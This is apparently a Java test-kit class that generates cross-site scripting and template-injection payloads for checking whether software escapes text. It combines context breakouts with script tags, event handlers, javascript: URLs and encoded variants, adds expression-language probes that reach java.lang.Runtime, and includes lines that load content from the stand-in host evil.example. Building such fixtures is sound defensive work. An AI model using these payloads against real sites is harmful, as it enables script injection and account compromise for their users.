package org.linja.testkit;

import java.util.ArrayList;
import java.util.List;

/**
 * Words that are markup, script or an expression to whoever forgets to treat them as words: made by
 * rule, each way out of a context with each thing that would act there. What acts calls {@code
 * hit}, which a browser can listen for.
 */
public final class HostileWords {
    /** How a page that believes in a piece of text would leave the place where it stands. */
    private static final List<String> WAYS_OUT =
            List.of(
                    "",
                    "\">",
                    "'>",
                    "</textarea>",
                    "</script>",
                    "</title></style>",
                    "-->",
                    "]]>",
                    "<svg><style><!--</style>",
                    "<math><mtext><table><mglyph><style><!--</style>");

    private static final List<String> ACTS =
            List.of(
                    "<script>hit()</script>",
                    "<ScRiPt src=//evil.example/x></sCrIpT>",
                    "<scr<script>ipt>hit()</scr</script>ipt>",
                    "<img src=x onerror=hit()>",
                    "<IMG SRC=x OnError=hit()>",
                    "<img/src=x/onerror=hit()//",
                    "<svg onload=hit()>",
                    "<svg><script>hit()</script></svg>",
                    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
                    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='hit()'/>#x\"/>",
                    "<body onload=hit()>",
                    "<iframe srcdoc=\"<script>parent.hit()</script>\">",
                    "<iframe src=javascript:parent.hit()>",
                    "<details open ontoggle=hit()>",
                    "<video><source onerror=hit()></video>",
                    "<audio src=x onerror=hit()>",
                    "<input autofocus onfocus=hit()>",
                    "<select autofocus onfocus=hit()>",
                    "<marquee onstart=hit()>",
                    "<a href=javascript:hit()>x</a>",
                    "<a href=\"java\u00adscript:hit()\" id=x>x</a>",
                    "<form action=javascript:hit()><button autofocus>x</button></form>",
                    "<object data=javascript:hit()>",
                    "<embed src=javascript:hit()>",
                    "<base href=//evil.example/>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:hit()\">",
                    "<link rel=stylesheet href=//evil.example/x.css>",
                    "<style>@import'//evil.example/x.css';</style>",
                    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
                    "<template><script>hit()</script></template>",
                    "<b style=\"background:url(javascript:hit())\">x</b>");

    /** Expressions of what draws pages, writes letters and fills in messages; 7331 * 3 is 21993. */
    private static final List<String> EXPRESSIONS =
            List.of(
                    "#{7331*3}",
                    "${7331*3}",
                    "#{facesContext.externalContext.applicationMap}",
                    "${pageContext.request.getSession().setAttribute('a',1)}",
                    "#{request.servletContext.classLoader}",
                    "#{''.getClass().forName('java.lang.Runtime')}",
                    "{{7331*3}}",
                    "<%= 7331*3 %>",
                    "@{7331*3}",
                    "*{7331*3}",
                    "$(7331*3)",
                    "{0} {1} {99}",
                    "{0,choice,0#21993}",
                    "%s %n %1$s",
                    "'{0}'",
                    "\\u0023{7331*3}",
                    "`${7331*3}`",
                    "';hit();//",
                    "\";hit();//",
                    "\\\";hit();//",
                    "\u202e>tpircs/<)(tih>tpircs<",
                    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
                    "&lt;script&gt;hit()&lt;/script&gt;",
                    "&#60;script&#62;hit()&#60;/script&#62;",
                    "%3Cscript%3Ehit()%3C/script%3E",
                    "%253Cscript%253Ehit()%253C/script%253E",
                    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
                    "javascript:hit()",
                    "JaVaScRiPt:hit()",
                    "data:text/html,<script>hit()</script>",
                    "vbscript:hit()",
                    "//evil.example/%2e%2e");

    private HostileWords() {}

    public static List<String> all() {
        List<String> all = new ArrayList<>(EXPRESSIONS);
        for (String out : WAYS_OUT) {
            for (String act : ACTS) {
                all.add(out + act);
            }
        }
        return all;
    }

    /** The same in texts of at most so many characters, a space between one and the next. */
    public static List<String> packed(int most) {
        List<String> texts = new ArrayList<>();
        StringBuilder text = new StringBuilder();
        for (String one : all()) {
            if (text.length() > 0 && text.length() + 1 + one.length() > most) {
                texts.add(text.toString());
                text.setLength(0);
            }
            text.append(text.length() == 0 ? "" : " ").append(one);
        }
        texts.add(text.toString());
        return texts;
    }
}
